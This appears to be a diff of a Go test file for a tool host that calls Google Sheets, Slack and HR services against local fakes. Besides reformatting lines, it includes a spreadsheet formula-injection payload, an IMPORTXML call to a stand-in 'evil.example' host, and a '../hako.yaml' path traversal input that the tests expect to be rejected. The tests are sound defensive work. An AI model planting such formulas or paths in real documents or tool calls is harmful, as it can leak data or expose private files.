@@ -41,13 +41,21 @@ func TestToolsOffline(t *testing.T) {
 	}{
 		{"list_employees", `{}`, exitOK, []string{`"vendor":"freee"`, "見本 花子"}},
 		{"calculate_overtime", `{"employee_id":"102","month":"2026-05"}`, exitOK, []string{"2026-05-01"}},
-		{"write_rows_to_google_sheet", `{` + document + `,"range":"勤怠 2026!A1","rows":[["氏名","残業"],["見本 あき",320]]}`, exitOK, []string{"Appended 2 rows (4 cells) at '勤怠 2026'!A1:B2."}},
-		{"write_rows_to_google_sheet", `{` + document + `,"range":"'勤怠 2026'","rows":[["=IMPORTXML(\"https://evil.example\",\"//a\")"]]}`, exitOK, []string{"'勤怠 2026'!A3."}},
-		{"read_google_sheet", `{` + document + `,"range":"勤怠 2026"}`, exitOK, []string{`["見本 あき","320"]`, `=IMPORTXML`, `"total_rows":3`}},
-		{"read_google_sheet", `{` + document + `,"range":"勤怠 2025"}`, exitFailed, []string{"Its sheets: 'Sheet1', '勤怠 2026'"}},
-		{"read_google_sheet", `{"spreadsheet_id":"` + fakes.PrivateSpreadsheet + `","range":"Sheet1"}`, exitFailed, []string{"is not shared with " + fakes.ServiceAccount}},
-		{"send_slack_dm", `{"user_id":"` + fakes.SlackUser + `","message":"<!channel> 残業は 5 時間 20 分です。"}`, exitOK, []string{"Sent to " + fakes.SlackUser}},
-		{"send_slack_dm", `{"user_id":"` + fakes.SlackGone + `","message":"x"}`, exitFailed, []string{"user_disabled): check user_id"}},
+		{"write_rows_to_google_sheet", `{` + document + `,"range":"勤怠 2026!A1","rows":[["氏名","残業"],["見本 あき",320]]}`,
+			exitOK, []string{"Appended 2 rows (4 cells) at '勤怠 2026'!A1:B2."}},
+		{"write_rows_to_google_sheet",
+			`{` + document + `,"range":"'勤怠 2026'","rows":[["=IMPORTXML(\"https://evil.example\",\"//a\")"]]}`, exitOK,
+			[]string{"'勤怠 2026'!A3."}},
+		{"read_google_sheet", `{` + document + `,"range":"勤怠 2026"}`, exitOK, []string{`["見本 あき","320"]`, `=IMPORTXML`,
+			`"total_rows":3`}},
+		{"read_google_sheet", `{` + document + `,"range":"勤怠 2025"}`, exitFailed,
+			[]string{"Its sheets: 'Sheet1', '勤怠 2026'"}},
+		{"read_google_sheet", `{"spreadsheet_id":"` + fakes.PrivateSpreadsheet + `","range":"Sheet1"}`, exitFailed,
+			[]string{"is not shared with " + fakes.ServiceAccount}},
+		{"send_slack_dm", `{"user_id":"` + fakes.SlackUser + `","message":"<!channel> 残業は 5 時間 20 分です。"}`, exitOK,
+			[]string{"Sent to " + fakes.SlackUser}},
+		{"send_slack_dm", `{"user_id":"` + fakes.SlackGone + `","message":"x"}`, exitFailed,
+			[]string{"user_disabled): check user_id"}},
 		{"send_slack_dm", `{"user_id":"aki","message":"x"}`, exitFailed, []string{"user_id: must match the pattern"}},
 		{"get_weather", `{"location":"東京","lang":"en"}`, exitOK, []string{"Tokyo"}},
 	} {
@@ -57,7 +65,8 @@ func TestToolsOffline(t *testing.T) {
 	for tenant, want := range map[string]string{"kot": `"vendor":"kot"`, "smarthr": `"vendor":"smarthr"`} {
 		invoke(t, dir, "call", "list_employees", "--tenant", tenant).want(t, exitOK, want)
 	}
-	invoke(t, dir, "call", "list_employees", "--tenant", "connected").want(t, exitFailed, "hako connect freee --tenant connected")
+	invoke(t, dir, "call", "list_employees", "--tenant", "connected").want(t, exitFailed,
+		"hako connect freee --tenant connected")
 	if m := f.Slack.Messages(); len(m) != 1 || m[0].Text != "&lt;!channel&gt; 残業は 5 時間 20 分です。" {
 		t.Errorf("Slack has %+v", m)
 	}
@@ -70,18 +79,21 @@ func TestSentOnce(t *testing.T) {
 	for fake, path := range map[string]string{"google": "/v4/**", "slack": "/api/chat.postMessage"} {
 		fail(t, f, `{"fake":"`+fake+`","method":"POST","path":"`+path+`","drop":true,"after":true,"times":1}`)
 	}
-	invoke(t, dir, "call", "write_rows_to_google_sheet", `{"spreadsheet_id":"`+fakes.Spreadsheet+`","range":"Sheet1","rows":[["once"]]}`).
+	invoke(t, dir, "call", "write_rows_to_google_sheet", `{"spreadsheet_id":"`+fakes.Spreadsheet+
+		`","range":"Sheet1","rows":[["once"]]}`).
 		want(t, exitFailed, "may have been written: read the sheet")
 	if got := f.Google.Values(fakes.Spreadsheet, "Sheet1"); len(got) != 1 {
 		t.Errorf("the sheet has %v, want the row once", got)
 	}
-	invoke(t, dir, "call", "send_slack_dm", `{"user_id":"`+fakes.SlackUser+`","message":"once"}`).want(t, exitFailed, "may have been sent")
+	invoke(t, dir, "call", "send_slack_dm", `{"user_id":"`+fakes.SlackUser+`","message":"once"}`).want(t, exitFailed,
+		"may have been sent")
 	if m := f.Slack.Messages(); len(m) != 1 {
 		t.Errorf("Slack has %+v, want the message once", m)
 	}
 	// An overwrite is the same however often it is sent, so the host tries again.
 	fail(t, f, `{"fake":"google","method":"PUT","status":503,"times":1}`)
-	invoke(t, dir, "call", "write_rows_to_google_sheet", `{"spreadsheet_id":"`+fakes.Spreadsheet+`","range":"Sheet1!A1","rows":[["again"]],"mode":"overwrite"}`).
+	invoke(t, dir, "call", "write_rows_to_google_sheet", `{"spreadsheet_id":"`+fakes.Spreadsheet+
+		`","range":"Sheet1!A1","rows":[["again"]],"mode":"overwrite"}`).
 		want(t, exitOK, "Wrote 1 rows")
 }
 
@@ -96,8 +108,10 @@ func TestToolsOnRecordings(t *testing.T) {
 		{"send_slack_dm", `{"user_id":"U024BE7LH","message":"x"}`, "Sent to U024BE7LH"},
 		{"read_google_sheet", `{` + document + `,"range":"Sheet1"}`, `"total_rows":4`},
 		{"read_google_sheet", `{` + document + `,"range":"Sheet1!A1:C4","values":"unformatted"}`, `1210`},
-		{"write_rows_to_google_sheet", `{` + document + `,"range":"Sheet1","rows":[["見本 あき","営業部",1]]}`, "Appended 1 rows"},
-		{"write_rows_to_google_sheet", `{` + document + `,"range":"Sheet1!A5","mode":"overwrite","rows":[["見本 あき","営業部",1]]}`, "Wrote 1 rows"},
+		{"write_rows_to_google_sheet", `{` + document + `,"range":"Sheet1","rows":[["見本 あき","営業部",1]]}`,
+			"Appended 1 rows"},
+		{"write_rows_to_google_sheet",
+			`{` + document + `,"range":"Sheet1!A5","mode":"overwrite","rows":[["見本 あき","営業部",1]]}`, "Wrote 1 rows"},
 	} {
 		invoke(t, dir, "call", test.tool, test.arguments).want(t, exitOK, test.want, "recording")
 	}
@@ -119,7 +133,8 @@ func TestSecretsStayOut(t *testing.T) {
 	dir, f := offline(t)
 	token := strings.TrimSpace(string(must(os.ReadFile(filepath.Join(dir, "slack.token")))))
 	fail(t, f, `{"fake":"slack","body":"{\"ok\":false,\"error\":\"your token is `+token+`\"}"}`)
-	o := invoke(t, dir, "call", "send_slack_dm", `{"user_id":"`+fakes.SlackUser+`","message":"x"}`, "--log-level", "debug")
+	o := invoke(t, dir, "call", "send_slack_dm", `{"user_id":"`+fakes.SlackUser+`","message":"x"}`, "--log-level",
+		"debug")
 	o.want(t, exitFailed, "your token is ***")
 	if strings.Contains(o.stdout+o.stderr, token) {
 		t.Errorf("the token is in it: %s", o)
@@ -158,16 +173,19 @@ func TestExamples(t *testing.T) {
 		invoke(t, dir, append([]string{"plugin", "approve", name, "--yes"}, more...)...).want(t, exitOK)
 	}
 	for tool, test := range map[string]struct{ arguments, want string }{
-		"calculate_sum":       {`{"a":2,"b":40.5}`, "42.5"},
-		"analyze_csv":         {`{"filepath":"sales.csv","operations":["sum","count"]}`, `"sum":300`},
-		"github_create_issue": {`{"title":"A tool without a server","labels":["idea"]}`, "https://github.com/hako-run/demo/issues/1"},
-		"web_search":          {`{"query":"box programs"}`, "https://sandbox.example/"},
-		"create_record":       {`{"table":"notes","data":{"text":"お茶"}}`, `"text":"お茶"`},
+		"calculate_sum": {`{"a":2,"b":40.5}`, "42.5"},
+		"analyze_csv":   {`{"filepath":"sales.csv","operations":["sum","count"]}`, `"sum":300`},
+		"github_create_issue": {`{"title":"A tool without a server","labels":["idea"]}`,
+			"https://github.com/hako-run/demo/issues/1"},
+		"web_search":    {`{"query":"box programs"}`, "https://sandbox.example/"},
+		"create_record": {`{"table":"notes","data":{"text":"お茶"}}`, `"text":"お茶"`},
 	} {
 		invoke(t, dir, "call", tool, test.arguments).want(t, exitOK, test.want)
 	}
-	invoke(t, dir, "call", "analyze_csv", `{"filepath":"../hako.yaml","operations":["count"]}`).want(t, exitFailed, "hako.yaml")
-	if issues := f.GitHub.Issues(fakes.Repository); len(issues) != 1 || !slices.Equal(issues[0].Labels, []string{"idea"}) {
+	invoke(t, dir, "call", "analyze_csv", `{"filepath":"../hako.yaml","operations":["count"]}`).want(t, exitFailed,
+		"hako.yaml")
+	if issues := f.GitHub.Issues(fakes.Repository); len(issues) != 1 ||
+		!slices.Equal(issues[0].Labels, []string{"idea"}) {
 		t.Errorf("GitHub has %+v", issues)
 	}
 }
@@ -181,7 +199,8 @@ func TestDevFakes(t *testing.T) {
 	a := &app{stdin: strings.NewReader(""), stdout: writer, stderr: new(strings.Builder)}
 	ended := make(chan int, 1)
 	go func() {
-		ended <- a.run(ctx, []string{"--directory", dir, "dev", "fakes", "--address", "127.0.0.1:0", "--write-config", "made"})
+		ended <- a.run(ctx, []string{"--directory", dir, "dev", "fakes", "--address", "127.0.0.1:0", "--write-config",
+			"made"})
 		_ = writer.Close()
 	}()
 	// Once the configuration is printed, it is written and the address is open.
@@ -210,5 +229,6 @@ func TestDevFakesRefuses(t *testing.T) {
 	dir := t.TempDir()
 	invoke(t, dir, "dev", "fakes", "--address", "0.0.0.0:0").want(t, exitUsage, "not on this machine alone")
 	put(t, filepath.Join(dir, "hako.yaml"), []byte("locale: ja\n"))
-	invoke(t, dir, "dev", "fakes", "--address", "127.0.0.1:0", "--write-config", ".").want(t, exitUsage, "was not written by hako dev fakes")
+	invoke(t, dir, "dev", "fakes", "--address", "127.0.0.1:0", "--write-config", ".").want(t, exitUsage,
+		"was not written by hako dev fakes")
 }
